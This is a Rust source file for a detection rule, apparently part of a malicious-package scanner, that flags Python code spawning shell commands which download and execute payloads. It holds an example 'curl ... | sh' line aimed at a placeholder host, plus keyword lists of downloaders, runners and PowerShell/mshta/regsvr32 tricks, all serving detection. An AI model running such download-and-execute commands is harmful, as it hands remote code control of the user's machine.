//! # HS113 shell-download-exec
//!
//! ## What it does
//!
//! Flags command lines handed to a shell or a process that download and run
//! something: `curl ... | sh`, `wget -O x ... && ./x`, PowerShell
//! `iwr ... | iex` / `DownloadString`, `certutil -urlcache`, `bitsadmin
//! /transfer`, `mshta http...`, and PowerShell's `-EncodedCommand`. A
//! download alone is high at install or start-up time and medium elsewhere.
//!
//! ## Why it matters
//!
//! Shelling out to a downloader keeps the Python looking innocent and moves
//! the payload out of the package. Lolip0p's `setup.py` spawned PowerShell to
//! fetch `Oxzy.exe`; the Lazarus Linux wave ran `curl` with a fixed cookie
//! and saved the result as `oshelper`; countless install-time droppers pipe
//! `curl` into `sh`.
//!
//! ## Example
//!
//! ```python
//! os.system("curl -s https://example.invalid/x.sh | sh")
//! ```
//!
//! ## False positives
//!
//! Build scripts that fetch toolchains with `curl`; they rarely pipe them
//! into a shell and are reported at medium outside install time.
//!
//! ## References
//!
//! - THREATS.md H5, H33; MITRE ATT&CK T1105, T1059
//! - Fortinet, Lolip0p PyPI packages (2023); 360, Lazarus PyPI (2024)

use crate::python::{Module, fold, names};
use crate::report::{Context, Severity};
use crate::rules::{Checker, Meta, Rule};

pub struct ShellDownloadExec;

static META: Meta = crate::rule_meta!("HS113", "shell-download-exec", Critical, High);

const DOWNLOADERS: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "irm ",
    "invoke-restmethod",
    "downloadstring",
    "downloadfile",
    "net.webclient",
    "start-bitstransfer",
    "bitsadmin",
    "-urlcache",
];
const RUNNERS: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "iex",
    "invoke-expression",
    "&& ./",
    "; ./",
    "&&./",
    "chmod +x",
    "chmod 777",
    "chmod 755",
    "start-process",
    "&& start ",
    "& start ",
    "| powershell",
    "&& {}",
    "&&{}",
    "& {}",
    "; {}",
    "rundll32",
    "&& python",
    "; python",
    "&& sh ",
    "; sh ",
    "&& bash ",
    "; bash ",
];
/// Hidden or remote code in a single launcher argument.
const ALONE: &[(&str, &str)] = &[
    ("-encodedcommand", "PowerShell -EncodedCommand"),
    (" -enc ", "PowerShell -enc"),
    (" -e jab", "PowerShell -e"),
    ("mshta http", "mshta with a URL"),
    ("mshta.exe http", "mshta with a URL"),
    ("regsvr32 /s /n /u /i:http", "regsvr32 scriptlet"),
];

impl Rule for ShellDownloadExec {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        for call in &m.calls {
            let Some(q) = call.qname.as_deref() else {
                continue;
            };
            if !names::is_spawn(q) {
                continue;
            }
            let Some(first) = call.arg(0) else { continue };
            let mut cmd = fold::template(m, first).to_ascii_lowercase();
            cmd.push(' ');
            let context = m.context(call.scope);
            if let Some((_, what)) = ALONE.iter().find(|(p, _)| cmd.contains(p)) {
                checker.report(
                    &META,
                    call.node,
                    Severity::Critical,
                    context,
                    format!("a command line runs {what}"),
                );
                continue;
            }
            let Some(dl) = DOWNLOADERS.iter().find(|d| cmd.contains(*d)) else {
                continue;
            };
            let dl = dl.trim();
            if let Some(run) = RUNNERS.iter().find(|r| cmd.contains(*r)) {
                checker.report(
                    &META,
                    call.node,
                    Severity::Critical,
                    context,
                    format!(
                        "a command line downloads with `{dl}` and runs the result (`{}`)",
                        run.trim()
                    ),
                );
            } else if cmd.contains("http") || cmd.contains("{}") || cmd.contains("ftp:") {
                let severity = if matches!(context, Context::Install | Context::Startup) {
                    Severity::High
                } else {
                    Severity::Medium
                };
                checker.report(
                    &META,
                    call.node,
                    severity,
                    context,
                    format!("a command line downloads with `{dl}`"),
                );
            }
        }
    }
}
